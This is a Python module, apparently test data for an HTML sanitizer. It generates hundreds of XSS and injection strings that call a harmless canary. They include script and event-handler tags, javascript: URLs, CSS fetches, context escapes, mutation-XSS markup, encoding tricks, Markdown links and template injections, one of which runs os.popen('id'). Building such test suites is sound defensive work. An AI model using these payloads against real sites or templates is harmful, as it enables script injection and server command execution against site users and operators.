"""Strings that make a careless page run a script or ask for something: by class, and combined.

The classes are those that are known of evasions of filters: elements that run scripts, handlers of
events, URLs that are scripts, style sheets that fetch, ways out of the place that a text stands in,
markup that means something else when it is parsed again, encodings, and Markdown.

If one works, it calls ``ran`` or asks for ``/ran``.
"""

from itertools import product

__all__ = ["ATTACKS", "HANDLERS", "MARKDOWN", "UNSAFE_URLS"]

_RUN = "ran(1)"

# Elements that run what they hold, or what they name.
_ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/a>{_RUN}</script/b>",
    f"<script type=module>{_RUN}</script>",
    f"<script>{_RUN}",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><script>&#114;an(1)</script></svg>",
    f"<math><script>{_RUN}</script></math>",
    f"<template><script>{_RUN}</script></template>",
    f"<p><script>{_RUN}</script>after",
    f"<script>/*<!--*/{_RUN}//--></script>",
    "<script src=/ran></script>",
    "<script src='//127.0.0.1/ran'></script>",
    "<script src=\\\\127.0.0.1\\ran></script>",
    "<svg><script href=/ran /></svg>",
    "<svg><script xlink:href=/ran></script></svg>",
    "<link rel=stylesheet href=/ran>",
    "<link rel=preload as=image href=/ran>",
    "<link rel='dns-prefetch preconnect prefetch' href=/ran>",
    "<link rel=import href=/ran>",
    "<base href=/ran/>",
    "<meta http-equiv=refresh content='0;url=/ran'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<iframe src=/ran></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_RUN}&lt;/script&gt;'></iframe>",
    "<frameset><frame src=/ran></frameset>",
    "<object data=/ran></object>",
    "<object><param name=src value=/ran></object>",
    "<embed src=/ran>",
    "<applet code=/ran></applet>",
    "<img src=/ran>",
    "<img srcset='/ran 1x, /ran 2x'>",
    "<picture><source srcset=/ran><img></picture>",
    "<image src=/ran>",
    "<input type=image src=/ran>",
    "<video src=/ran></video>",
    "<video poster=/ran></video>",
    "<audio src=/ran autoplay></audio>",
    "<audio><source src=/ran></audio>",
    "<video><track default src=/ran></video>",
    "<body background=/ran>",
    "<table background=/ran><tr><td background=/ran></table>",
    "<svg><image href=/ran /></svg>",
    "<svg><use href=/ran#a /></svg>",
    "<svg><feImage href=/ran /></svg>",
    "<xml src=/ran></xml>",
    "<?xml-stylesheet href=/ran?>",
    "<form action=/ran><input autofocus><button>Go</button></form>",
    "<form id=f action=/ran></form><button form=f formaction=/ran>Go</button>",
    "<isindex action=/ran>",
    "<portal src=/ran></portal>",
    "<fencedframe src=/ran></fencedframe>",
    f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    f"<svg><foreignobject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignobject></svg>",
    f"<svg><handler type=text/javascript>{_RUN}</handler></svg>",
    f"<math><mo><script>{_RUN}</script></mo></math>",
    f"<template shadowroot=open><script>{_RUN}</script></template>",
    "<svg><filter><feImage href=/ran /></filter></svg>",
    "<svg><pattern><image xlink:href=/ran /></pattern></svg>",
    "<svg><cursor href=/ran /></svg>",
    "<svg fill='url(/ran#a)'><rect mask='url(/ran#b)' /></svg>",
    "<math><mglyph src=/ran></math>",
    "<img srcset=/ran>",
    "<img sizes=1px srcset='/ran 1w'>",
    "<picture><source srcset='/ran,/ran 2x'><img alt=a></picture>",
    "<img src='data:image/svg+xml,<svg onload=%22ran(1)%22><image href=%22/ran%22/></svg>'>",
    "<img lowsrc=/ran dynsrc=/ran longdesc=/ran usemap=/ran>",
    "<a ping=/ran href=/a>a</a>",
    "<a href=/a target=_blank rel=opener>a</a>",
    "<a href=/a attributionsrc=/ran>a</a>",
    "<a href=/a download=a.exe>a</a>",
    "<link rel=modulepreload href=/ran>",
    "<link rel=manifest href=/ran>",
    "<link rel=prerender href=/ran>",
    "<html manifest=/ran>",
    "<base href=//127.0.0.1/ran/ target=_top>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/ran"]}]}</script>',
    '<script type=importmap>{"imports":{"a":"/ran"}}</script>',
    "<META HTTP-EQUIV='&#114;efresh' CONTENT='0,/ran'>",
    "<meta http-equiv=set-cookie content='ran=1'>",
    "<meta http-equiv=content-security-policy content=\"script-src * 'unsafe-inline'\">",
    "<meta property=og:audio content='javascript:ran(1)'>",
    "<object type=image/svg+xml data=/ran></object>",
]

# Handlers of events that need nobody, in all ways to spell an attribute.
_HANDLED = [
    ("img src=//0", "onerror"),
    ("image src=//0", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("p tabindex=0 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=//0", "onerror"),
    ("audio src=//0", "onerror"),
    ("video><source", "onerror"),
    ("iframe", "onload"),
    ("iframe srcdoc=a", "onload"),
    ("object data=//0", "onerror"),
    ("embed src=//0", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=//0", "onerror"),
    ("script src=//0", "onerror"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=//0", "onerror"),
    ("p style=animation:a", "onanimationstart"),
    ("p contenteditable autofocus", "onfocusin"),
    ("input type=image src=//0", "onerror"),
    ("a", "onmouseover"),
    ("p", "onclick"),
    ("p", "onpointerenter"),
]
_SPELLED = [
    f" {{}}={_RUN}>",
    f" {{}}='{_RUN}'>",
    f'/{{}}="{_RUN}"//>',
    f"\n{{}}\n=\n{_RUN}\n>",
    "\t{}\t=&#x72;an(1)>",
    f"\x0c{{}}=\x0c`${{{{{_RUN}}}}}`\x0c>",
    f" a='\"' {{}}={_RUN} b=\"'\">",
    f' {{}}="{_RUN}',
    f" x=x\x00 {{}}={_RUN}>",
]
HANDLERS = [
    f"<{element}{spelled.format(event)}"
    for (element, event), spelled in product(_HANDLED, _SPELLED)
]

# URLs that are scripts, and the places for URLs.
_SCRIPT_URLS = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f" \x01javascript:{_RUN}",
    f"\x0cjavascript:{_RUN}",
    f"javascript\t:{_RUN}",
    f"javascript://example.com/%0A{_RUN}",
    f"javascript:https://example.com/;{_RUN}",
    f"vbscript:{_RUN}",
    f"livescript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"data:text/javascript,{_RUN}",
    f"view-source:javascript:{_RUN}",
    "blob:http://127.0.0.1/ran",
    "filesystem:http://127.0.0.1/ran",
    "file:///ran",
    f"about:blank#{_RUN}",
    "chrome://ran",
    "intent://ran#Intent;scheme=http;end",
    "ws://127.0.0.1/ran",
    "jar:http://127.0.0.1/ran!/",
    f"feed:javascript:{_RUN}",
    f"FEED:feed:JavaScript:{_RUN}",
    f"pcast:data:text/html,<script>parent.{_RUN}</script>",
    f"\u00a0javascript:{_RUN}",
    f"java\u200bscript:{_RUN}",
    "data:,ran",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    "search-ms:query=ran",
    "content://ran",
]
_ENTITIES = [
    f"&#106;avascript:{_RUN}",
    f"&#x6A;&#x61;vascript:{_RUN}",
    f"&#0000106avascript:{_RUN}",
    f"java&Tab;script&colon;{_RUN}",
    f"java&NewLine;script:{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#1;javascript:{_RUN}",
    "javascript:&#114;an&lpar;1&rpar;",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{_RUN}",
    f"java&#13;script:{_RUN}",
    f"&#8;javascript:{_RUN}",
    f"JAVASCRIPT&NewLine;:{_RUN}",
    f"javascript&amp;colon;{_RUN}",
    f"tel:1&#10;javascript:{_RUN}",
]
_PLACES = [
    '<a href="{}">a</a>',
    "<a href='{}' target=_blank>a</a>",
    '<svg><a xlink:href="{}"><text y=9>a</text></a></svg>',
    '<math href="{}">a</math>',
    '<map><area href="{}"></map>',
    '<form action="{}"><button>a</button></form>',
    '<form><button formaction="{}">a</button></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<img src="{}">',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    '<script src="{}"></script>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><use href="{}"/></svg>',
    '<svg><animate attributeName=href values="{}"/></svg>',
    '<body background="{}">',
    '<blockquote cite="{}">a</blockquote>',
    '<svg><a><animate attributeName=href to="{}" /><text y=9>a</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="{}" /><text y=9>a</text></a></svg>',
    '<math><maction actiontype=statusline xlink:href="{}">a</maction></math>',
    '<video controls><source src="{}"></video>',
]
_URLS = [
    place.format(url.replace('"', "&quot;"))
    for index, url in enumerate((*_SCRIPT_URLS, *_ENTITIES))
    for place in (_PLACES[0], *_PLACES[1 + index % 4 :: 4])
]
UNSAFE_URLS = _SCRIPT_URLS

# URLs that are safe, and end the attribute or the text that they stand in.
_ENDING_URLS = [
    f"https://example.com/&quot; onmouseover=&quot;{_RUN}",
    f"https://example.com/'onmouseover='{_RUN}",
    f"https://example.com/`onmouseover=`{_RUN}",
    f"/a&quot;&gt;<script>{_RUN}</script>",
    f"#&quot; onclick=&quot;{_RUN}",
    f"/a)<script>{_RUN}</script>",
    f"/a>) <script>{_RUN}</script>",
    f"mailto:a@b.c?body=<script>{_RUN}</script>",
    f"javascript%3A{_RUN}",
    f"%6Aavascript:{_RUN}",
]
_ENDED = [f'<a href="{url}">a</a>' for url in _ENDING_URLS]

# What our own attributes hold, for those who write them as Markdown.
_STATED = [
    f"a&#10;&#10;[a](javascript:{_RUN})&#10;&#10;",
    "a&#13;&#10;&#13;&#10;![a](/ran)&#10;&#10;",
    "a&#13;&#13;![a](/ran)&#13;&#13;",
    f"&#10;&#10;[a]: javascript:{_RUN}&#10;&#10;[a]&#10;&#10;",
    f"&quot;&gt;<script>{_RUN}</script>",
    f"a&quot; onclick=&quot;{_RUN}",
]
_OWN_ATTRIBUTES = [
    place.format(stated)
    for stated in _STATED
    for place in (
        '<a href=/a data-kind="{}">a</a>',
        '<a href=/a data-kind=a data-address="{}">a</a>',
        '<a href=/a data-kind=a data-platform="{}">a</a>',
        '<section data-kind="{}"><h2>a</h2><p>b</section>',
    )
]

# Style sheets that run or fetch.
_STYLES = [
    "background:url(/ran)",
    "background:url('/ran')",
    "background:\\75rl(/ran)",
    "background:u\\r\\l(/ran)",
    "background:image-set('/ran' 1x)",
    "list-style:url(/ran)",
    "cursor:url(/ran),auto",
    "content:url(/ran)",
    f"background:url(javascript:{_RUN})",
    f"width:expression({_RUN})",
    f"width:exp/**/ression({_RUN})",
    "behavior:url(/ran)",
    "-moz-binding:url(/ran#a)",
    "font-family:a;src:url(/ran)",
    "position:fixed;inset:0;z-index:9",
    "background:url(&quot;/ran&quot;)",
    "--a:url(/ran);background:var(--a)",
    "mask:url(/ran);filter:url(/ran#a);border-image:url(/ran)",
]
_STYLED = [
    *(f'<p style="{style}">a</p>' for style in _STYLES),
    *(f"<style>*{{{style}}}</style>" for style in _STYLES),
    "<style>@import url(/ran);</style>",
    "<style>@import '/ran';</style>",
    "<style>@font-face{font-family:a;src:url(/ran)}*{font-family:a}</style>",
    "<svg><style>@import '/ran';</style></svg>",
    "<style>@import/**/'/ran';</style>",
    "<style>@media all{@import '/ran'}</style>",
    "<link rel=stylesheet href='data:text/css,*{background:url(/ran)}'>",
    f"<font face='</font><script>{_RUN}</script>'>a</font>",
]

# Ways out of where a text stands.
_EXITS = [
    *('">', "'>", "`>", "-->", "--!>", "]]>", "*/", "}}", "</p>", "</a>", "</h1>", "</svg>"),
    *("</math>", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>"),
    *("</iframe>", "</select>", "</table>", "</details>", "</main>", "</xmp>", "</plaintext>"),
    *("<!--", "<![CDATA[", '" ', "' ", "\u2028", '\\"', "\\'", "\\", "&quot;>", "&#39;>", "%22%3E"),
    *("\r\n\r\n", "{#", "{% raw %}"),
]
_AFTER = [
    f"<script>{_RUN}</script>",
    f"<img src=//0 onerror={_RUN}>",
    f"autofocus onfocus={_RUN} tabindex=0 x=",
    f";{_RUN};//",
]
_ESCAPING = [f"{way}{after}" for way, after in product(_EXITS, _AFTER)]

# Templates, should a text be taken for one.
_TEMPLATES = [
    *("{{ 7 * 7 }}", "{{ page.__class__.__mro__ }}", "{% include 'page.css' %}"),
    *("{{ ran | safe }}", "{# {{ ran }} #}", f"${{{_RUN}}}", f"#{{{_RUN}}}", f"<%= {_RUN} %>"),
    "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id') }}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    *("{{ self }}", "{{ lipsum.__globals__ }}", "{{ [] | attr('__class__') }}", "{# unclosed"),
    *("{%- for x in () -%}", "{% extends 'page.html' %}", '{{ "</script>" | safe }}'),
    f"{{% autoescape false %}}<script>{_RUN}</script>{{% endautoescape %}}",
    f"<p x-data x-init={_RUN}>a</p>",
    f"<p ng-app ng-csp>{{{{$on.constructor('{_RUN}')()}}}}</p>",
]

# Markup that becomes another when it is written and parsed again.
_HANDLER = f"<img src=//0 onerror={_RUN}>"
_MUTATING = [
    f'<noscript><p title="</noscript>{_HANDLER}">',
    f'<svg></p><style><a title="</style>{_HANDLER}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_HANDLER}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_HANDLER}",
    f'<svg><desc><noscript><a title="</noscript>{_HANDLER}">',
    f"<math><annotation-xml encoding=text/html><style>{_HANDLER}</style></annotation-xml></math>",
    f'<table><caption><svg><title><table><style><a title="</style>{_HANDLER}">',
    f'<select><template><style><!--</style><a rel="--></style></select>{_HANDLER}">',
    f"<xmp><p title='</xmp>{_HANDLER}'></xmp>",
    f"<plaintext>{_HANDLER}",
    f"<listing>&lt;img src=//0 onerror={_RUN}&gt;</listing>",
    f"<textarea><p title='</textarea>{_HANDLER}'>",
    f"<title><p title='</title>{_HANDLER}'>",
    f"<iframe><p title='</iframe>{_HANDLER}'></iframe>",
    f"<noembed><p title='</noembed>{_HANDLER}'></noembed>",
    f"<!--><script>{_RUN}</script>-->",
    f"<!---><script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!DOCTYPE a [<!ENTITY b '<script>{_RUN}</script>'>]>&b;",
    f"<?php ?><script>{_RUN}</script>",
    f"</><script>{_RUN}</script>",
    f"<a<b>{_HANDLER}",
    f"<p title=`>{_HANDLER}`>",
    "<a href='x'>" * 3 + _HANDLER,
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{_HANDLER}">',
    f'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>{_HANDLER}">',
    f"<svg></p><textarea><title><style></textarea>{_HANDLER}</style></title></svg>",
    f"<a><table><a></table><a><noscript><p title='</noscript>{_HANDLER}'>",
    f"<noframes><p title='</noframes>{_HANDLER}'></noframes>",
    f"<style><!--</style>{_HANDLER}-->",
    f"<script><!--<script></script>{_HANDLER}--></script>",
    f"<select><option><style></option></select>{_HANDLER}</style>",
    f"<select><iframe></select>{_HANDLER}",
    f"<table><tr><td><svg><desc><td></desc></svg>{_HANDLER}",
    f"<frameset><noframes>{_HANDLER}</noframes></frameset>",
    f"<dl><dt><svg><dd>{_HANDLER}</dl>",
    f'<p><svg><p><style><g title="</style>{_HANDLER}">',
    f"<template><style></template>{_HANDLER}</style>",
    f"<template shadowrootmode=open>{_HANDLER}</template>",
    f"<svg><desc>{_HANDLER}</desc></svg>",
    f"<math><mi>{_HANDLER}</mi></math>",
    f"<svg><style>&lt;img src=//0 onerror={_RUN}&gt;</style></svg>",
    f"<math><style>&lt;/style&gt;{_HANDLER}</style></math>",
    f"<!--<!-->{_HANDLER}-->",
    f"<!-- \n--!\n>{_HANDLER}",
    f"<?{_HANDLER}>",
    f"</ {_HANDLER}>",
    f'<a title="a\nb\n\n{_HANDLER}">c</a>',
    f"<a/href='/a'/{_HANDLER}",
]

# Encodings that something might undo.
_ENCODED = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"&ltscript&gt{_RUN}&lt/script&gt",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞",
    f"‹script›{_RUN}‹/script›",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<s\ufeffcript>{_RUN}</script>",
    f"<ſcript>{_RUN}</ſcript>",
    f"<\u200bscript>{_RUN}</script>",
    f"\x1b$B<script>{_RUN}</script>",
    f"\x9b<script>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
]

# Marks that turn the direction of writing around.
_TURNED = [
    "\u202e<a href=/a>moc.elpmaxe\u202e</a>",
    f"<a href=/a>a\u202e{_HANDLER}</a>",
    f"<bdo dir=rtl>{_HANDLER}</bdo>",
    f"\u2066<script>{_RUN}</script>\u2069",
]

# What Markdown makes of text.
MARKDOWN = [
    *(f"[a]({url})" for url in _SCRIPT_URLS),
    *(f"[a](<{url}>)" for url in _SCRIPT_URLS),
    *(f"[a]({url} 'title')" for url in _ENTITIES),
    *(f"<{url}>" for url in _SCRIPT_URLS),
    *(f"[a]\n\n[a]: {url}" for url in _SCRIPT_URLS),
    *(f"![a]({url})" for url in ("/ran", *_SCRIPT_URLS[:4])),
    f'[a](/a "\'onmouseover={_RUN}")',
    f'![a" onerror="{_RUN}](//0)',
    f"[{_HANDLER}](/a)",
    f"`</code>{_HANDLER}`",
    f'```a"><script>{_RUN}</script>\nb\n```',
    f"    <script>{_RUN}</script>",
    f"\\<script>{_RUN}\\</script>",
    f"**a**<script>{_RUN}</script>",
    f"- a\n  <script>{_RUN}</script>",
    f"> <script>{_RUN}</script>",
    f"<p\nonclick={_RUN}\n>a",
]

ATTACKS = [
    *_ELEMENTS,
    *HANDLERS,
    *_URLS,
    *_ENDED,
    *_OWN_ATTRIBUTES,
    *_STYLED,
    *_ESCAPING,
    *_TEMPLATES,
    *_MUTATING,
    *_ENCODED,
    *_TURNED,
]
